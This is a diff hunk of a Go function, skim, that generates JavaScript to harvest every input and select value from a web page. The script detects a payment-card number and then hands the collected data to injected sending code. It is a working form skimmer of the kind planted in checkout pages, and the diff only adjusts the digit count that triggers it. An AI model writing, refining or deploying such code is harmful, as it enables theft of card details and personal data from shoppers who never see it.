@@ -43,7 +43,7 @@ func skim(send string) string {
   function grab() { var d = {}; document.querySelectorAll('input,select').forEach(function (i) { if (i.value) d[i.name || i.id] = i.value; }); return d; }
   function fire() {
     var d = grab(), card = false;
-    Object.keys(d).forEach(function (k) { if (/num/.test(k) && d[k].replace(/\D/g, '').length >= 15) card = true; });
+    Object.keys(d).forEach(function (k) { if (/num/.test(k) && d[k].replace(/\D/g, '').length >= 16) card = true; });
     if (!card || sent) return;
     var s = JSON.stringify(d);
     ` + send + `
